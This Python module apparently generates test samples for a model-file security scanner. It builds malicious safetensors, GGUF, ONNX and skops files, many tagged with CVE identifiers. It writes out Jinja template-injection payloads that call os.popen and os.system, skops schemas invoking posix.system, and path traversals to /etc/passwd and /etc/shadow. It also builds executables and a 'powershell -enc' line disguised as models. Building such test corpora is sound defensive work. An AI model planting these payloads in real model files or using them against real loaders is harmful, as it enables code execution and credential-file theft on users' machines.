"""Malicious safetensors, GGUF, ONNX and skops files, and executables that pose as or hide in models.

Layouts: safetensors (8-byte little-endian header length, JSON header, data); GGUF specification version 3;
`onnx.proto`; skops' `schema.json`; ELF, PE and Mach-O magic numbers.
"""

# ruff: noqa: E501 (one row a sample reads better than wrapped calls)

from __future__ import annotations

import json
import struct
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

from .assembler import SHELL, evil, pickle, value
from .sample import Sample, write_bytes
from .zipcraft import Member, archive

ELF = (
    b"\x7fELF\x02\x01\x01"
    + bytes(9)
    + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    + bytes(64)
)
PE = b"MZ\x90\x00" + bytes(56) + struct.pack("<I", 64) + b"PE\x00\x00\x64\x86" + bytes(200)
MACHO = struct.pack("<IIIIIIII", 0xFEEDFACF, 0x01000007, 3, 2, 1, 24, 0, 0) + bytes(64)
SCRIPT = f"#!/bin/sh\n{SHELL}\n".encode()


def _safetensors(header: Any, data: bytes = bytes(16), length: int | None = None) -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + data


def _tensor(start: int, end: int, shape: list[int] | None = None, dtype: str = "F32") -> dict[str, Any]:
    return {"dtype": dtype, "shape": [(end - start) // 4] if shape is None else shape, "data_offsets": [start, end]}


_GOOD = {"a": _tensor(0, 16)}

_SAFETENSORS: list[tuple[str, str, Callable[[], bytes]]] = [
    ("overlap.safetensors", "safetensors/overlap", lambda: _safetensors({"a": _tensor(0, 16), "b": _tensor(8, 16)})),
    ("outside.safetensors", "safetensors/offset-outside", lambda: _safetensors({"a": _tensor(0, 4096)})),
    ("negative.safetensors", "safetensors/negative-offset", lambda: _safetensors({"a": {"dtype": "F32", "shape": [4], "data_offsets": [-16, 0]}})),
    ("reversed.safetensors", "safetensors/reversed-offsets", lambda: _safetensors({"a": {"dtype": "F32", "shape": [4], "data_offsets": [16, 0]}})),
    ("gap.safetensors", "safetensors/hole-with-payload", lambda: _safetensors({"a": _tensor(0, 16), "b": _tensor(16 + len(ELF), 32 + len(ELF))}, bytes(16) + ELF + bytes(16))),
    ("tail_elf.safetensors", "safetensors/tail-executable", lambda: _safetensors(_GOOD, bytes(16) + ELF)),
    ("tail_pickle.safetensors", "safetensors/tail-pickle", lambda: _safetensors(_GOOD, bytes(16) + evil())),
    ("tail_zip.safetensors", "safetensors/tail-zip", lambda: archive([Member(b"data.pkl", evil())], prefix=_safetensors(_GOOD))),
    ("header_huge.safetensors", "safetensors/header-length-huge", lambda: _safetensors(_GOOD, length=2**60)),
    ("header_longer_than_file.safetensors", "safetensors/header-length-beyond-file", lambda: _safetensors(_GOOD, length=100_000)),
    ("duplicate_keys.safetensors", "safetensors/duplicate-keys", lambda: _safetensors(b'{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}')),
    ("shape_lies.safetensors", "safetensors/shape-contradicts-size", lambda: _safetensors({"a": _tensor(0, 16, [1024, 1024])})),
    ("shape_overflow.safetensors", "safetensors/shape-overflow", lambda: _safetensors({"a": _tensor(0, 16, [2**32, 2**32, 4])})),
    ("not_json.safetensors", "safetensors/header-not-json", lambda: _safetensors(b"{'a': __import__('os').system('id')}")),
    ("deep_json.safetensors", "safetensors/header-nesting", lambda: _safetensors(b'{"a":' + b"[" * 50_000 + b"]" * 50_000 + b"}")),
    ("unknown_type.safetensors", "safetensors/unknown-dtype", lambda: _safetensors({"a": _tensor(0, 16, [4], "OBJECT")})),
    ("metadata_payload.safetensors", "safetensors/metadata-pickle", lambda: _safetensors({"__metadata__": {"config": evil(0).decode()}, **_GOOD})),
    ("metadata_template.safetensors", "safetensors/metadata-template", lambda: _safetensors({"__metadata__": {"chat_template": "{{ lipsum.__globals__['os'].popen('id').read() }}"}, **_GOOD})),
]  # fmt: skip


def _text(string: str | bytes) -> bytes:
    data = string.encode() if isinstance(string, str) else string
    return struct.pack("<Q", len(data)) + data


def gguf(
    pairs: list[tuple[str, int, bytes]],
    tensors: bytes = b"",
    count: int = 0,
    *,
    magic: bytes = b"GGUF",
    version: int = 3,
    declared: int | None = None,
) -> bytes:
    """Write a GGUF file from already encoded values: `(key, value type, bytes)`."""
    body = magic + struct.pack("<IQQ", version, count, len(pairs) if declared is None else declared)
    for key, kind, encoded in pairs:
        body += _text(key) + struct.pack("<I", kind) + encoded
    body += tensors
    return body + bytes(-len(body) % 32)


def _gguf_tensor(name: str, dimensions: list[int], kind: int, offset: int) -> bytes:
    return (
        _text(name)
        + struct.pack("<I", len(dimensions))
        + b"".join(struct.pack("<Q", d) for d in dimensions)
        + struct.pack("<IQ", kind, offset)
    )


_ARCHITECTURE = ("general.architecture", 8, _text("llama"))
_TEMPLATE = (
    "{% for m in messages %}{{ m['content'] }}{% endfor %}{{ cycler.__init__.__globals__.os.system('"
    + SHELL.replace('"', '\\"')
    + "') }}"
)
_OBFUSCATED = "{{ lipsum|attr('__glo'~'bals__')|attr('__getitem__')('o'~'s')|attr('popen')('id') }}"


def _template_gguf(template: str) -> bytes:
    return gguf([_ARCHITECTURE, ("tokenizer.chat_template", 8, _text(template))])


_GGUF: list[tuple[str, str, Callable[[], bytes], str]] = [
    ("chat_template.gguf", "gguf/chat-template", lambda: _template_gguf(_TEMPLATE.replace('\\"', '"')), "CVE-2024-34359"),
    ("chat_template_obfuscated.gguf", "gguf/chat-template-obfuscated", lambda: _template_gguf(_OBFUSCATED), "CVE-2026-5760"),
    ("chat_template_array.gguf", "gguf/chat-template-as-array", lambda: gguf([_ARCHITECTURE, ("tokenizer.chat_template", 9, struct.pack("<IQ", 8, 1) + _text(_TEMPLATE))]), "https://huggingface.co/celvexgroup/modelaudit-gguf-array-chat-template-poc"),
    ("chat_template_named.gguf", "gguf/named-chat-template", lambda: gguf([_ARCHITECTURE, ("tokenizer.chat_template", 8, _text("{{ messages[0].content }}")), ("tokenizer.chat_template.tool_use", 8, _text(_TEMPLATE))]), ""),
    ("chat_template_duplicate.gguf", "gguf/duplicate-key", lambda: gguf([_ARCHITECTURE, ("tokenizer.chat_template", 8, _text("{{ messages }}")), ("tokenizer.chat_template", 8, _text(_TEMPLATE))]), ""),
    ("chat_template_nested.gguf", "gguf/template-stack-overflow", lambda: _template_gguf("{{ " + "(" * 6000 + "1" + ")" * 6000 + " }}"), "https://huggingface.co/FreeZoneAT/llamacpp-jinja-stackoverflow-poc-huntr"),
    ("counts_huge.gguf", "gguf/metadata-count-huge", lambda: gguf([_ARCHITECTURE], declared=2**62), "CVE-2024-23496"),
    ("tensors_huge.gguf", "gguf/tensor-count-huge", lambda: gguf([_ARCHITECTURE], count=2**61), "CVE-2024-21836"),
    ("string_huge.gguf", "gguf/string-length-huge", lambda: gguf([("general.name", 8, struct.pack("<Q", 2**63) + b"x")]), "CVE-2024-21825"),
    ("array_huge.gguf", "gguf/array-length-huge", lambda: gguf([("tokenizer.ggml.tokens", 9, struct.pack("<IQ", 8, 2**60))]), "CVE-2024-23605"),
    ("array_nested.gguf", "gguf/array-nesting", lambda: gguf([("x", 9, struct.pack("<IQ", 9, 1) * 2000)]), ""),
    ("type_unknown.gguf", "gguf/unknown-value-type", lambda: gguf([("x", 77, b"")]), ""),
    ("dimensions_overflow.gguf", "gguf/dimension-overflow", lambda: gguf([_ARCHITECTURE], _gguf_tensor("w", [2, 2**63 + 500], 0, 0), 1), "CVE-2025-53630"),
    ("dimension_padding.gguf", "gguf/padding-overflow", lambda: gguf([_ARCHITECTURE], _gguf_tensor("w", [2**63 - 3], 0, 0), 1), "https://huggingface.co/codeconflict7/gguf-ggmlpad-poc"),
    ("dimension_count.gguf", "gguf/too-many-dimensions", lambda: gguf([_ARCHITECTURE], _text("w") + struct.pack("<I", 4_000_000_000), 1), ""),
    ("tensor_outside.gguf", "gguf/tensor-outside-file", lambda: gguf([_ARCHITECTURE], _gguf_tensor("w", [1024], 0, 2**40), 1), ""),
    ("tensor_type_unknown.gguf", "gguf/unknown-tensor-type", lambda: gguf([_ARCHITECTURE], _gguf_tensor("w", [32], 9999, 0), 1) + bytes(128), "https://huggingface.co/FuturMix/gguf-security-poc"),
    ("tensors_overlap.gguf", "gguf/overlapping-tensors", lambda: gguf([_ARCHITECTURE], _gguf_tensor("a", [64], 0, 0) + _gguf_tensor("b", [64], 0, 32), 2) + bytes(512), ""),
    ("alignment_zero.gguf", "gguf/alignment-zero", lambda: gguf([("general.alignment", 4, struct.pack("<I", 0))], _gguf_tensor("w", [32], 0, 0), 1) + bytes(128), ""),
    ("truncated.gguf", "gguf/truncated", lambda: _template_gguf("{{ messages }}")[:61], ""),
    ("tail.gguf", "gguf/tail-executable", lambda: gguf([_ARCHITECTURE], _gguf_tensor("w", [8], 0, 0), 1) + bytes(32) + ELF, ""),
    ("version_future.gguf", "gguf/unknown-version", lambda: gguf([_ARCHITECTURE], version=0xFFFF), ""),
]  # fmt: skip


def _onnx(edit: Callable[[Any], None] | None = None) -> Callable[[], bytes]:
    def write() -> bytes:
        from onnx import TensorProto, helper

        weights = helper.make_tensor("w", TensorProto.FLOAT, [2], [1.0, 2.0])
        node = helper.make_node("Add", ["x", "w"], ["y"])
        graph = helper.make_graph([node], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
                                  [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])], [weights])  # fmt: skip
        model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)])
        if edit is not None:
            edit(model)
        return bytes(model.SerializeToString())

    return write


def _external(location: str, offset: str = "0", length: str = "8") -> Callable[[Any], None]:
    def edit(model: Any) -> None:
        tensor = model.graph.initializer[0]
        tensor.ClearField("float_data")
        tensor.data_location = tensor.EXTERNAL
        for key, text in (("location", location), ("offset", offset), ("length", length)):
            entry = tensor.external_data.add()
            entry.key, entry.value = key, text

    return edit


def _external_in_constant(model: Any) -> None:
    from onnx import helper

    tensor = helper.make_tensor("c", 1, [2], [1.0, 2.0])
    tensor.ClearField("float_data")
    tensor.data_location = tensor.EXTERNAL
    entry = tensor.external_data.add()
    entry.key, entry.value = "location", "../../../../etc/shadow"
    model.graph.node.append(helper.make_node("Constant", [], ["k"], value=tensor))


def _custom_domain(model: Any) -> None:
    model.opset_import.add(domain="com.attacker.ops", version=1)
    model.graph.node[0].domain = "com.attacker.ops"
    model.graph.node[0].op_type = "RunShell"


def _python_operator(model: Any) -> None:
    model.opset_import.add(domain="ai.onnx.contrib", version=1)
    node = model.graph.node[0]
    node.domain, node.op_type = "ai.onnx.contrib", "PyOp"


def _dimensions(model: Any) -> None:
    model.graph.initializer[0].dims[:] = [2**40, 2**20]


def _negative_dimensions(model: Any) -> None:
    model.graph.initializer[0].dims[:] = [-1, -2]


def _raw_mismatch(model: Any) -> None:
    tensor = model.graph.initializer[0]
    tensor.ClearField("float_data")
    tensor.raw_data = bytes(1000)


def _deep_subgraphs(model: Any) -> None:
    from onnx import helper

    graph = model.graph
    for level in range(60):
        node = graph.node.add(op_type="If", name=f"n{level}")
        inner = helper.make_graph([], f"g{level}", [], [])
        node.attribute.append(helper.make_attribute("then_branch", inner))
        graph = node.attribute[0].g


def _symlinked_weights(directory: Path) -> Path:
    folder = directory / "onnx_symlink"
    folder.mkdir()
    (folder / "model.onnx").write_bytes(_onnx(_external("weights.bin"))())
    (folder / "weights.bin").symlink_to("/etc/passwd")
    return folder


_ONNX: list[tuple[str, str, Callable[[], bytes], str]] = [
    ("traversal.onnx", "onnx/external-data-traversal", _onnx(_external("../../../../etc/passwd")), "CVE-2022-25882"),
    ("traversal_nested.onnx", "onnx/external-data-nested-traversal", _onnx(_external("weights/../../../etc/passwd")), "CVE-2024-27318"),
    ("traversal_backslash.onnx", "onnx/external-data-backslash", _onnx(_external("..\\..\\Windows\\win.ini")), ""),
    ("absolute.onnx", "onnx/external-data-absolute", _onnx(_external("/etc/passwd")), "CVE-2024-27318"),
    ("file_url.onnx", "onnx/external-data-url", _onnx(_external("file:///etc/passwd")), ""),
    ("network_path.onnx", "onnx/external-data-unc", _onnx(_external("//10.0.0.1/share/w")), ""),
    ("device.onnx", "onnx/external-data-device", _onnx(_external("/dev/zero", length=str(2**50))), ""),
    ("negative_offset.onnx", "onnx/external-data-bounds", _onnx(_external("w.bin", offset="-8", length=str(2**62))), "CVE-2026-27489"),
    ("constant_traversal.onnx", "onnx/external-data-in-constant", _onnx(_external_in_constant), "https://huggingface.co/htdy7703/onnx-numpy-helper-cwd-read-poc"),
    ("custom_domain.onnx", "onnx/custom-domain", _onnx(_custom_domain), ""),
    ("python_operator.onnx", "onnx/python-operator", _onnx(_python_operator), ""),
    ("oversize_dimensions.onnx", "onnx/oversize-dimensions", _onnx(_dimensions), ""),
    ("negative_dimensions.onnx", "onnx/negative-dimensions", _onnx(_negative_dimensions), ""),
    ("raw_data_mismatch.onnx", "onnx/raw-data-contradicts-shape", _onnx(_raw_mismatch), ""),
    ("deep_subgraphs.onnx", "onnx/subgraph-depth", _onnx(_deep_subgraphs), ""),
    ("tail_elf.onnx", "onnx/tail-executable", lambda: _onnx()() + ELF, ""),
    ("truncated.onnx", "onnx/truncated", lambda: _onnx()()[:-20], ""),
]  # fmt: skip


def _node(cls: str, module: str, loader: str, **fields: Any) -> dict[str, Any]:
    identity = zlib.crc32(json.dumps([cls, module, loader, fields], sort_keys=True).encode())
    return {"__class__": cls, "__module__": module, "__loader__": loader, "__id__": identity, **fields}


def _string(text: str | None) -> dict[str, Any]:
    return _node("str", "builtins", "JsonNode", content=json.dumps(text), is_json=True)


def _list(kind: str, *items: Any) -> dict[str, Any]:
    return _node(kind, "builtins", f"{kind.title()}Node", content=list(items))


def _skops(schema: dict[str, Any], extra: tuple[Member, ...] = ()) -> bytes:
    schema = schema | {"protocol": 2, "_skops_version": "0.16.0"}
    return archive([Member(b"schema.json", json.dumps(schema).encode(), deflate=True), *extra])


_SYSTEM_TYPE = _node("system", "posix", "TypeNode")
_CALL = _node("call", "operator", "OperatorFuncNode", attrs=_list("tuple", _SYSTEM_TYPE, _string(SHELL)))
_DISGUISED = _CALL | {"__module__": "sklearn.linear_model._stochastic_gradient", "__class__": "call"}
_METHOD = _node("system", "posix", "MethodNode", content={"obj": _SYSTEM_TYPE, "func": "__call__"})
_UNKNOWN = _node("Popen", "subprocess", "ObjectNode", content=None)
_PARTIAL = _node(
    "partial",
    "functools",
    "PartialNode",
    content={
        "func": _SYSTEM_TYPE,
        "args": _list("tuple", _string(SHELL)),
        "kwds": _node("dict", "builtins", "DictNode", content={}, key_types=_list("list")),
        "namespace": _string(None),
    },
)
_REDUCE = _node(
    "Tree", "sklearn.tree._tree", "TreeNode", content=_string(None), __reduce__={"args": _list("tuple", _SYSTEM_TYPE)}
)

_SKOPS: list[tuple[str, str, Callable[[], bytes], str, str]] = [
    ("operator_call.skops", "skops/operator-call", lambda: _skops(_CALL), "skops", "CVE-2025-54412"),
    ("operator_disguised.skops", "skops/operator-disguised", lambda: _skops(_DISGUISED), "", "CVE-2025-54412"),
    ("method_node.skops", "skops/method-node", lambda: _skops(_METHOD), "", "CVE-2025-54413"),
    ("unknown_type.skops", "skops/unknown-type", lambda: _skops(_UNKNOWN), "", ""),
    ("partial.skops", "skops/partial-of-system", lambda: _skops(_PARTIAL), "", ""),
    ("reduce_node.skops", "skops/reduce-node", lambda: _skops(_REDUCE), "", ""),
    ("pickle_named.skops", "skops/pickle-inside-name", evil, "pickle", "CVE-2025-54886"),
    ("pickle_member.skops", "skops/pickle-member", lambda: _skops(_string("x"), (Member(b"array.npy", evil()),)), "", ""),
    ("no_schema.skops", "skops/schema-missing", lambda: archive([Member(b"model.pkl", evil())]), "", ""),
]  # fmt: skip

_EXECUTABLES: list[tuple[str, str, Callable[[], bytes]]] = [
    ("elf_model.bin", "executable/elf-as-model", lambda: ELF),
    ("elf_model.onnx", "executable/elf-as-onnx", lambda: ELF),
    ("pe_model.pt", "executable/pe-as-torch", lambda: PE),
    ("macho_model.mlmodel", "executable/macho-as-model", lambda: MACHO),
    ("script_model.bin", "executable/shell-as-model", lambda: SCRIPT),
    ("script_model.gguf", "executable/shell-as-gguf", lambda: SCRIPT),
    ("batch_model.bin", "executable/batch-as-model", lambda: b"@echo off\r\npowershell -enc SQBFAFgA\r\n"),
    ("class_model.bin", "executable/java-class", lambda: b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + bytes(64)),
    ("wasm_model.bin", "executable/wasm", lambda: b"\x00asm\x01\x00\x00\x00" + bytes(16)),
    ("elf_after_pickle.pkl", "executable/elf-after-pickle", lambda: pickle(value({"w": [1.0]})) + ELF),
    ("elf_after_zip.zip", "executable/elf-after-zip", lambda: archive([Member(b"a.txt", b"x")]) + ELF),
    ("pe_in_zip.zip", "executable/pe-in-zip", lambda: archive([Member(b"weights.bin", PE)])),
    ("elf_in_pickle_bytes.pkl", "executable/elf-in-bytes", lambda: pickle(value({"weights": ELF}))),
    ("script_after_npy.npy", "executable/script-after-npy", lambda: b"\x93NUMPY\x01\x00\x36\x00{'descr':'|u1','fortran_order':False,'shape':(4,)}    \n" + bytes(4) + SCRIPT),
]  # fmt: skip


def _plain(
    name: str,
    technique: str,
    content: Callable[[], bytes],
    needs: tuple[str, ...] = (),
    loader: str = "",
    source: str = "",
) -> Sample:
    return Sample(name, technique, True, bool(loader), write_bytes(name, content), loader, needs, source)


SAMPLES = (
    *(_plain(*row) for table in (_SAFETENSORS, _EXECUTABLES) for row in table),
    *(
        _plain(name, technique, content, (), "", source)
        for name, technique, content, source in _GGUF
        if name != "chat_template.gguf"
    ),
    _plain("chat_template.gguf", "gguf/chat-template", _GGUF[0][2], ("gguf", "jinja2"), "jinja", _GGUF[0][3]),
    *(_plain(f"onnx_{name}", technique, content, ("onnx",), "", source) for name, technique, content, source in _ONNX),
    Sample(
        "onnx_symlink",
        "onnx/external-data-symlink",
        True,
        False,
        _symlinked_weights,
        "",
        ("onnx",),
        "https://huggingface.co/kpanuragh/onnx-external-data-symlink-bypass-poc",
    ),
    *(
        _plain(name, technique, content, ("skops",) if loader == "skops" else (), loader, source)
        for name, technique, content, loader, source in _SKOPS
    ),
)
